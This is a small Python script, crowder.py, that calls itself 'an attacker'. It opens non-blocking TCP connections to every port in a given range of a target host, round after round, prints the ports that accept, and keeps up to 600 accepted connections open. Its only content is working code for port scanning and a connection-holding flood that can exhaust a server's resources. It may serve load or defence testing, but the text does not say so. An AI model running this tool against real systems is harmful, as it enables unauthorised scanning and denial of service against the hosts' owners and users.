#!/usr/bin/env python3
"""An attacker: connects to all TCP ports of a range, TIMES each, round after round, and holds what lets it in.

    crowder.py TARGET FIRST-PORT LAST-PORT [TIMES]
"""

import select
import socket
import sys
import time

PATIENCE_S = 0.1
ENOUGH = 600  # connections: descriptors are few


def begin(target, port):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
    sock.connect_ex((target, port))
    return sock


def one_round(target, ports, held):
    """Hold the sockets that were let in, with their ports."""
    tried = [(begin(target, port), port) for port in ports]
    time.sleep(PATIENCE_S)
    poll = select.poll()
    for sock, _ in tried:
        poll.register(sock, select.POLLOUT)
    ready = {number for number, _ in poll.poll(0)}
    for sock, port in tried:
        if sock.fileno() in ready and sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
            print("in", port, flush=True)
            held.append(sock)
        else:
            sock.close()


def main(target, first, last, times="1"):
    held, ports = [], list(range(int(first), int(last) + 1)) * int(times)
    for number in range(1 << 30):
        one_round(target, ports, held)
        for sock in held[:-ENOUGH]:
            sock.close()
        del held[:-ENOUGH]
        print("round", number, flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
